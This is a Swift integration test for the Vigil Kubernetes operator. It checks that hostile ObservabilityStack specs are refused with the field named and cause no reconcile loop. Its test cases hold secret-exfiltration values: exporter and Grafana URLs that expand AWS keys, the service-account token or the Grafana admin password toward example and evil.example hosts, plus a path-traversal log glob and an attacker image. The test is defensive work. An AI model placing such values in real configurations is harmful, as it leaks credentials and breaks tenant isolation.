#if canImport(Glibc)
import Glibc
#endif
import Foundation
import KubeClient
import KubeModel
import Testing

/// Hostile stacks through the real API server: each is refused by the CRD schema or by
/// Vigil, always naming the field, and Vigil does not loop on them.
@Suite(.serialized) struct BadInputIntegrationTests {
    /// A spec fragment (under `spec:`, after `environment:`) and the field it must be blamed on.
    static let cases: [(name: String, spec: String, field: String)] = [
        ("cidr", "  networkPolicy:\n    egressTo: [10.0.0.0/33]\n", "spec.networkPolicy.egressTo[0]"),
        ("duration", "  ingest:\n    tls: {duration: 1x}\n", "spec.ingest.tls.duration"),
        ("overlap", "  ingest:\n    basicAuth:\n      rotation: {interval: 1h, overlap: 2h}\n", "spec.ingest.basicAuth.rotation.overlap"),
        ("no-secret-name", "  ingest:\n    tls: {mode: Secret}\n", "spec.ingest.tls.secretName"),
        ("quantity", "  collector:\n    resources: {limits: {cpu: not-a-quantity}}\n", "spec.collector.resources.limits.cpu"),
        ("missing-secret", "  exporters:\n    tempo: {endpoint: \"tempo.monitoring.svc:4317\", bearerTokenSecret: {name: nope, key: token}}\n", "spec.exporters.tempo.bearerTokenSecret"),
        ("mtls-without-tls", "  ingest:\n    tls: {mode: Disabled, clientAuth: Required}\n    basicAuth: {enabled: false}\n", "spec.ingest.tls.clientAuth"),
        ("latency", "  sampling: {latencyThresholdMs: 99999999999}\n", "spec.sampling.latencyThresholdMs"),
        ("replicas", "  collector:\n    gateway: {replicas: 1000}\n", "spec.collector.gateway.replicas"),
        ("percentage", "  sampling: {percentage: 150}\n", "spec.sampling.percentage"),
        ("cost", "  ingest:\n    basicAuth: {bcryptCost: 3}\n", "spec.ingest.basicAuth.bcryptCost"),
        ("ip", "  ingest:\n    tls: {ipAddresses: [999.1.1.1]}\n", "spec.ingest.tls.ipAddresses[0]"),
        ("dns", "  ingest:\n    tls: {dnsNames: [-bad-]}\n", "spec.ingest.tls.dnsNames[0]"),
        ("same-namespace", "  ingest:\n    basicAuth:\n      clients: [{name: a, namespace: x}, {name: b, namespace: x}]\n", "spec.ingest.basicAuth.clients[1].namespace"),
        ("wrong-type", "  sampling: {percentage: lots}\n", "spec.sampling.percentage"),
        ("huge-string", "  collector:\n    image: \(String(repeating: "x", count: 300_000))\n", "spec.collector.image"),
        // Tenancy (issue 16): other namespaces' logs, paths out of the log directory, and
        // `$` expansions the collector or Grafana would perform.
        ("log-glob-foreign", "  collector:\n    fileLogs: {include: [/var/log/pods/*/*/*.log]}\n", "spec.collector.fileLogs.include[0]"),
        ("log-glob-escape", "  collector:\n    fileLogs: {include: [/var/log/pods/hostile_*/../../../../etc/*]}\n", "spec.collector.fileLogs.include[0]"),
        ("expansion-env", "  exporters:\n    loki: {endpoint: \"https://loki.example.com/${env:AWS_SECRET_ACCESS_KEY}\"}\n", "spec.exporters.loki.endpoint"),
        ("expansion-file", "  exporters:\n    remoteWrite: {url: \"https://mimir.example.com/${file:/var/run/secrets/kubernetes.io/serviceaccount/token}\"}\n", "spec.exporters.remoteWrite.url"),
        ("foreign-image", "  collector:\n    image: attacker/collector:latest\n", "spec.collector.image"),
        ("tolerate-all", "  collector:\n    tolerations: [{operator: Exists}]\n", "spec.collector.tolerations[0]"),
        ("expansion-grafana", "  grafana: {prometheusURL: \"https://evil.example/$GF_SECURITY_ADMIN_PASSWORD\"}\n", "spec.grafana.prometheusURL"),
    ]

    @Test func hostileStacksAreRefusedNamingTheFieldAndCauseNoReconcileLoop() async throws {
        let plane = try await SharedControlPlane.shared.get()
        let ns = "hostile"
        try await plane.createNamespace(ns)
        try await withVigil(kubeconfig: plane.kubeconfig, namespace: ns) { vigil in
            var accepted: [(String, String)] = []
            var longName = String(repeating: "n", count: 253)
            longName.replaceSubrange(longName.startIndex...longName.startIndex, with: "a")
            let all = Self.cases + [(longName, "", "metadata.name")]
            for c in all {
                let yaml = """
                    apiVersion: observability.vigil.dev/v1alpha1
                    kind: ObservabilityStack
                    metadata: {name: \(c.name), namespace: \(ns)}
                    spec:
                      environment: staging

                    """ + c.spec
                do {
                    try await plane.kubectl("apply", "-f", "-", input: yaml)
                    accepted.append((c.name, c.field))
                } catch {
                    // Refused by the CRD's schema: the server's message names the field.
                    #expect("\(error)".contains(c.field.split(separator: "[").first.map(String.init) ?? c.field), "\(c.name): \("\(error)".prefix(300))")
                }
            }
            #expect(accepted.count >= 8, "accepted: \(accepted.map(\.0))")
            for (name, field) in accepted {
                let message = try await eventually("\(name) refused with a reason") { () -> String? in
                    let s = try await plane.getIfExists(ObservabilityStack.self, ns, name)
                    guard let ready = s?.status?.condition("Ready"), ready.status == "False" else { return nil }
                    return s?.status?.conditions?.filter { $0.status == "False" }.map(\.message).joined(separator: " | ")
                }
                #expect(message.contains(field), "\(name): \(message)")
            }

            // No loop: over a minute the reconcile count barely moves.
            let url = try await vigil.endpoint("metrics") + "/metrics"
            func reconciles() async throws -> Double {
                let text = try await run(["curl", "-s", url])
                return text.split(separator: "\n").filter { $0.hasPrefix("controller_runtime_reconcile_total{") }
                    .compactMap { $0.split(separator: " ").last.flatMap { Double($0) } }.reduce(0, +)
            }
            let before = try await reconciles()
            try await Task.sleep(nanoseconds: 60_000_000_000)
            let during = try await reconciles() - before
            // A missing Secret or user certificate is looked at again every 30 s; the rest wait
            // for a change.
            #expect(during <= Double(2 * accepted.count), "\(during) reconciles in a minute for \(accepted.count) invalid stacks")
            #expect(vigil.isRunning)

            // A running stack edited into a hostile one: refused, and its collectors are
            // left exactly as they were.
            try await plane.kubectl("apply", "-f", "-", input: stackYAML(name: "steady", namespace: ns, environment: "staging"))
            _ = try await eventually("steady Ready") { () -> Bool? in
                try await plane.getIfExists(ObservabilityStack.self, ns, "steady")?.status?.condition("Ready")?.isTrue == true ? true : nil
            }
            let cm = try #require(try await plane.getIfExists(ConfigMap.self, ns, "steady-collector"))
            func dsVersion() async throws -> String {
                try await plane.kubectl("get", "daemonset", "steady-collector", "-n", ns, "-o", "jsonpath={.metadata.resourceVersion}")
            }
            let ds = try await dsVersion()
            #expect(!ds.isEmpty)
            for (patch, field) in [
                (#"{"spec":{"collector":{"fileLogs":{"include":["/var/log/pods/kube-system_*/*/*.log"]}}}}"#, "spec.collector.fileLogs.include[0]"),
                (#"{"spec":{"collector":{"fileLogs":null},"exporters":{"loki":{"endpoint":"https://loki.example.com/${env:K8S_POD_NAME}"}}}}"#, "spec.exporters.loki.endpoint"),
            ] {
                try await plane.kubectl("patch", "observabilitystack", "steady", "-n", ns, "--type=merge", "-p", patch)
                let message = try await eventually("the hostile edit refused") { () -> String? in
                    let s = try await plane.getIfExists(ObservabilityStack.self, ns, "steady")
                    guard s?.status?.observedGeneration == s?.metadata.generation, s?.status?.condition("Ready")?.isTrue == false else { return nil }
                    return s?.status?.condition("ConfigValid")?.message
                }
                #expect(message.contains(field), "\(message)")
                #expect(try await plane.getIfExists(ConfigMap.self, ns, "steady-collector")?.metadata.resourceVersion == cm.metadata.resourceVersion)
                #expect(try await dsVersion() == ds)
            }
            #expect(await vigil.terminate() == 0)
        }
    }
}
